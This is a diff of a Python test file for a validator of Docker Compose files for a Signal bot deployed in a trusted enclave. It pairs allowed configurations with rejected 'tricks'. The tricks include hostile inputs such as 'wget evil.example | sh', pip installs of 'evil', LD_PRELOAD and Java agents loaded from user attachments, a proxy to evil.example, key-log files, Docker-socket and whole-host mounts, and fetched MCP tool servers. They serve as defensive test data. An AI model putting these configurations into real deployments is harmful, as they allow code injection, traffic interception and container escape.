@@ -33,22 +33,29 @@ def problems(text: str, allowed_envs: tuple[str, ...] = VARIABLES) -> list[str]:
 ALLOWED: Final = {
     "one image": BOT,
     "an image of a short name": f"services: {{bot: {{image: 'bot{DIGEST}'}}}}\n",
-    "arguments": service("command: [run, --verbose, '--file=/data/a,b']"),
-    "arguments one by one": service("command:", "  - run", "  - --port=80"),
+    "arguments": service("command: [run, --verbose, '--file=/data/a,b', -x]"),
+    "options alone": service("command:", "  - --port=80", "  - -v"),
     "settings": service("environment:", "  A: b c", '  B: ""', "  C: https://example.org/?a=b"),
     "settings as a list": service("environment:", "  - A=b c", "  - B="),
+    "a server of tools": service(
+        "environment:",
+        "  MCP__SERVERS__NOTES__URL: http://notes:8080/mcp",
+        "  MCP__SERVERS__NOTES__TOKEN: ${LLM__API_KEY}",
+        "  STORE__PATH: /var/lib/signal-tee-bot/conversations.db",
+        "  ATTESTATION__MODEL_PINS: '{\"v\":1}'",
+    ),
     "a secret": service("environment: {LLM__API_KEY: '${LLM__API_KEY}'}"),
     "a secret under another name": service("environment:", "  - NOTES_TOKEN=${LLM__API_KEY}"),
     "volumes": service(
-        "volumes: ['a:/data', 'b:/var/lib/x/y:ro']", more="volumes: {a: {}, b: {}}\n"
+        "volumes: ['kept:/data', 'other:/var/lib/x/y:ro']", more="volumes: {kept: {}, other: {}}\n"
     ),
     "a volume in the long form": service(
         "volumes:",
         "  - type: volume",
-        "    source: a",
-        "    target: /srv/a",
+        "    source: kept",
+        "    target: /mnt/kept",
         "    read_only: true",
-        more="volumes:\n  a:\n",
+        more="volumes:\n  kept:\n",
     ),
     "the guest agent": service("volumes:", f"  - {SOCKET}:{SOCKET}"),
     "the guest agent, read-only": service("volumes:", f"  - {SOCKET}:{SOCKET}:ro"),
@@ -76,7 +83,7 @@ ALLOWED: Final = {
         "restart: on-failure:3",
         "stop_grace_period: 1m30s",
         "stop_signal: SIGINT",
-        "healthcheck: {test: [CMD, bot, ready], interval: 60s, retries: 3}",
+        "healthcheck: {test: [CMD, signal-tee-bot, ready], interval: 60s, retries: 3}",
         "logging: {driver: json-file, options: {max-size: 10m, max-file: '3'}}",
     ),
     "no health check": service("healthcheck: {disable: true}"),
@@ -116,12 +123,12 @@ TRICKS: Final = {
         "volumes: [{type: bind, source: /dstack, target: /data}]"
     ),
     "a folder through driver_opts": service(
-        "volumes: ['a:/data']",
-        more="volumes:\n  a:\n    driver_opts: {type: none, o: bind, device: /dstack}\n",
+        "volumes: ['kept:/data']",
+        more="volumes:\n  kept:\n    driver_opts: {type: none, o: bind, device: /dstack}\n",
     ),
     "a folder of another machine": service(
-        "volumes: ['a:/data']",
-        more="volumes: {a: {driver: local, driver_opts: {type: nfs, device: '1.2.3.4:/x'}}}\n",
+        "volumes: ['kept:/data']",
+        more="volumes: {kept: {driver: local, driver_opts: {type: nfs, device: '1.2.3.4:/x'}}}\n",
     ),
     "a relative folder": service("volumes: ['./x:/data']"),
     "the folder above": service("volumes: ['../x:/data']"),
@@ -144,34 +151,42 @@ TRICKS: Final = {
     "Docker's socket": service("volumes: ['/var/run/docker.sock:/var/run/docker.sock']"),
     "the whole machine": service("volumes: ['/:/srv/machine']"),
     "an external volume": service(
-        "volumes: ['a:/data']", more="volumes:\n  a: {external: true}\n"
+        "volumes: ['kept:/data']", more="volumes:\n  kept: {external: true}\n"
     ),
     "a volume of another name": service(
-        "volumes: ['a:/data']", more="volumes:\n  a: {name: theirs}\n"
+        "volumes: ['kept:/data']", more="volumes:\n  kept: {name: theirs}\n"
     ),
-    "a volume that is not named at the top": service("volumes: ['a:/data']"),
+    "a volume that is not named at the top": service("volumes: ['kept:/data']"),
     "a volume without a name": service("volumes: [/data]"),
     "volumes by an alias": "x: &v ['/dstack:/data']\n" + service("volumes: *v"),
     "volumes of another service": service("volumes_from: [other]"),
     "volumes of another container": service("volumes_from: ['container:x']"),
-    "a volume over programs": service("volumes: ['a:/usr/bin']", more="volumes: {a: {}}\n"),
-    "a volume over the root": service("volumes: ['a:/']", more="volumes: {a: {}}\n"),
-    "a volume over settings": service("volumes: ['a:/run/secrets']", more="volumes: {a: {}}\n"),
-    "a volume over a setting": service("volumes: ['a:/run/secrets/x']", more="volumes: {a: {}}\n"),
-    "a volume by a detour": service("volumes: ['a:/data/../usr']", more="volumes: {a: {}}\n"),
-    "a volume at two slashes": service("volumes: ['a:/data//x']", more="volumes: {a: {}}\n"),
-    "a volume with a flag": service("volumes: ['a:/data:z']", more="volumes: {a: {}}\n"),
-    "a volume that is shared on": service(
-        "volumes: ['a:/data:rw,rshared']", more="volumes: {a: {}}\n"
+    "a volume over programs": service("volumes: ['kept:/usr/bin']", more="volumes: {kept: {}}\n"),
+    "a volume over the root": service("volumes: ['kept:/']", more="volumes: {kept: {}}\n"),
+    "a volume over settings": service(
+        "volumes: ['kept:/run/secrets']", more="volumes: {kept: {}}\n"
     ),
-    "a volume without a target": service("volumes: ['a:']", more="volumes: {a: {}}\n"),
+    "a volume over a setting": service(
+        "volumes: ['kept:/run/secrets/x']", more="volumes: {kept: {}}\n"
+    ),
+    "a volume by a detour": service("volumes: ['kept:/data/../usr']", more="volumes: {kept: {}}\n"),
+    "a volume at two slashes": service("volumes: ['kept:/data//x']", more="volumes: {kept: {}}\n"),
+    "a volume with a flag": service("volumes: ['kept:/data:z']", more="volumes: {kept: {}}\n"),
+    "a volume that is shared on": service(
+        "volumes: ['kept:/data:rw,rshared']", more="volumes: {kept: {}}\n"
+    ),
+    "a volume without a target": service("volumes: ['kept:']", more="volumes: {kept: {}}\n"),
     "a part of a volume": service(
-        "volumes: [{type: volume, source: a, target: /data, volume: {subpath: '../x'}}]",
-        more="volumes: {a: {}}\n",
+        "volumes: [{type: volume, source: kept, target: /data, volume: {subpath: '../x'}}]",
+        more="volumes: {kept: {}}\n",
+    ),
+    "a volume of one letter": service("volumes: ['a:/data']", more="volumes: {a: {}}\n"),
+    "a volume over what may be code": service(
+        "volumes: ['kept:/srv/app']", more="volumes: {kept: {}}\n"
     ),
     "an image as a volume": service("volumes: [{type: image, source: evil, target: /data}]"),
-    "a pipe": service("volumes: [{type: npipe, source: a, target: /data}]"),
-    "a cluster's volume": service("volumes: [{type: cluster, source: a, target: /data}]"),
+    "a pipe": service("volumes: [{type: npipe, source: kept, target: /data}]"),
+    "a cluster's volume": service("volumes: [{type: cluster, source: kept, target: /data}]"),
     "a mount without a type": service(f"volumes: [{{source: {SOCKET}, target: {SOCKET}}}]"),
     "how a mount is passed on": service(
         f"volumes: [{{type: bind, source: {SOCKET}, target: {SOCKET},"
@@ -229,17 +244,56 @@ TRICKS: Final = {
     "a variable as a command": service("command: ['${LLM__API_KEY}']"),
     "a variable in an image": service().replace("bot:1.2", "${NAME:-bot}"),
     "a variable in a volume's name": service(
-        "volumes: ['${LLM__API_KEY}:/data']", more="volumes: {a: {}}\n"
+        "volumes: ['${LLM__API_KEY}:/data']", more="volumes: {kept: {}}\n"
     ),
     "a variable in a volume's folder": service(
-        "volumes: ['a:${LLM__API_KEY}']", more="volumes: {a: {}}\n"
+        "volumes: ['kept:${LLM__API_KEY}']", more="volumes: {kept: {}}\n"
     ),
-    "a variable in a name of the top": BOT + "volumes:\n  a: {name: '${LLM__API_KEY}'}\n",
+    "a variable in a name of the top": BOT + "volumes:\n  kept: {name: '${LLM__API_KEY}'}\n",
     "a variable as the project's name": "name: ${LOG__LEVEL}\n" + BOT,
     "a variable in a limit": service("mem_limit: ${LOG__LEVEL}"),
     "a variable in a user": service("user: ${LOG__LEVEL}"),
     "a variable in a health check": service("healthcheck: {test: [CMD, '${LOG__LEVEL}']}"),
     "a variable in temporary files": service("tmpfs: ['${LOG__LEVEL}']"),
+    # variables that turn data into code
+    "a library of what people send": service(
+        "environment: {LD_PRELOAD: /var/lib/signal-cli/attachments/x}"
+    ),
+    "an agent of Java": service(
+        "environment: {JAVA_TOOL_OPTIONS: '-javaagent:/var/lib/signal-cli/attachments/x'}"
+    ),
+    "options of a program": service("environment: {SIGNAL_CLI_OPTS: '-javaagent:/data/x'}"),
+    "modules of Python": service("environment: {PYTHONPATH: /data}"),
+    "a required module": service("environment: {NODE_OPTIONS: '--require /data/x'}"),
+    "another home": service("environment: {HOME: /data}"),
+    "another path": service("environment: {PATH: '/data/bin:/bin'}"),
+    "another path in other case": service("environment: {path: /data/bin}"),
+    "settings from a folder": service("environment: {CREDENTIALS_DIRECTORY: /data}"),
+    "somebody in between": service("environment: {HTTPS_PROXY: 'http://evil.example'}"),
+    "somebody in between for all": service("environment: {all_proxy: 'http://evil.example'}"),
+    "other authorities": service("environment: {SSL_CERT_FILE: /data/x}"),
+    "a log of keys": service("environment: {SSLKEYLOGFILE: /data/x}"),
+    "another guest agent": service("environment: {DSTACK_SIMULATOR_ENDPOINT: 'http://x'}"),
+    "a library in a server's environment": service(
+        "environment: {MCP__SERVERS__X__ENV__LD_PRELOAD: /data/x}"
+    ),
+    "a server of tools by a shell": service(
+        "environment: {MCP__SERVERS__X__COMMAND: 'sh -c true'}"
+    ),
+    "a server of tools that is fetched": service(
+        "environment: {MCP__SERVERS__X__COMMAND: 'uvx mcp-server-evil'}"
+    ),
+    "a server of tools in other case": service(
+        "environment: {mcp__servers__x__command: 'npx evil'}"
+    ),
+    "a server of tools by a script": service(
+        "environment: {MCP__SERVERS__X__COMMAND: 'run a;b'}"
+    ),
+    "a server of tools as a program": service(
+        "environment: {MCP__SERVERS__X__COMMAND: mcp-notes}"
+    ),
+    "a server of tools from data": service("environment: {MCP__SERVERS__X__COMMAND: /data/x}"),
+    "pins in a file": service("environment: {ATTESTATION__MODEL_PINS: /data/pins.json}"),
     # programs
     "an image by its tag": BOT.replace(DIGEST, ""),
     "an image by a short digest": BOT.replace("ab" * 32, "ab" * 31),
@@ -261,7 +315,6 @@ TRICKS: Final = {
     "an entry point": service("entrypoint: [run]"),
     "a shell": service("command: [sh, -c, x]"),
     "a shell by its path": service("command: [/bin/bash, -c, x]"),
-    "a shell by an option": service("command: ['--exec=/bin/sh']"),
     "a shell behind an init": service("command: [tini, '--', dash]"),
     "a shell's text": service("command: run --fast"),
     "a script": service("command: [run, 'wget evil.example | sh']"),
@@ -272,6 +325,17 @@ TRICKS: Final = {
     "a program that fetches": service("command: [wget, -O, /data/x, evil.example/x]"),
     "a program that installs": service("command: [pip, install, evil]"),
     "a multi-call program": service("command: [busybox, httpd]"),
+    "a browser": service("command: [lynx, evil.example]"),
+    "a debugger": service("command: [gdb]"),
+    "a shell of another name": service("command: [bash5]"),
+    "a program behind options": service("command: [--, lynx]"),
+    "a program behind a subcommand": service("command: [run, lynx]"),
+    "a subcommand behind an option": service("command: [-x, run]"),
+    "an argument from a file": service("command: ['@/data/x']"),
+    "a health check by another program": service("healthcheck: {test: [CMD, lynx]}"),
+    "a program of a volume": service("command: [/data/x]"),
+    "a program of a volume by a relative path": service("command: [data/x]"),
+    "a program by a file of the kernel": service("command: [/proc/self/exe, x]"),
     "a word that is a number": service("command: [run, 1]"),
     "a word that is a list": service("command: [run, [x]]"),
     "a health check by a shell": service("healthcheck: {test: [CMD-SHELL, x]}"),
@@ -335,7 +399,7 @@ TRICKS: Final = {
     "an extension key": "x-a: b\n" + BOT,
     "an extension key in a service": service("x-a: b"),
     # forms
-    "no services": "volumes: {a: {}}\n",
+    "no services": "volumes: {kept: {}}\n",
     "an empty list of services": "services: {}\n",
     "services as a list": f"services:\n  - image: {IMAGE}\n",
     "a service of nothing": BOT + "  other:\n",
@@ -383,9 +447,9 @@ def test_a_problem_names_the_line_the_key_and_what_is_expected() -> None:
 # Generated files
 
 NAMES: Final = st.from_regex("[a-z][a-z0-9]{2,6}x", fullmatch=True)
-WORDS: Final = st.from_regex("--?[a-z]{2,8}(=[0-9./:]{1,8})?|/data/[a-z]{4,8}x", fullmatch=True)
+WORDS: Final = st.from_regex("--?[a-z]{1,8}(=[a-z0-9./:]{1,8})?", fullmatch=True)
 TEXTS: Final = st.text("abcXYZ019 ./:_#{}[],&*!|>@%-+=~'?`", max_size=20)
-FOLDERS: Final = st.from_regex("/(data|srv|var/lib|run|mnt)/[a-z]{2,8}", fullmatch=True).filter(
+FOLDERS: Final = st.from_regex("/(data|var/lib|run|mnt)/[a-z]{2,8}", fullmatch=True).filter(
     lambda folder: not folder.startswith("/run/secrets")
 )
 
@@ -443,7 +507,7 @@ def files(draw: st.DrawFn) -> str:
 INSERTIONS: Final = tuple(
     trick.removeprefix(BOT)
     for trick in TRICKS.values()
-    if trick.startswith(BOT + "    ") and "volumes: {a" not in trick and "  b:" not in trick
+    if trick.startswith(BOT + "    ") and "volumes: {kept" not in trick and "  b:" not in trick
 )
 """Lines that may stand in no service, whatever else is in it."""
 
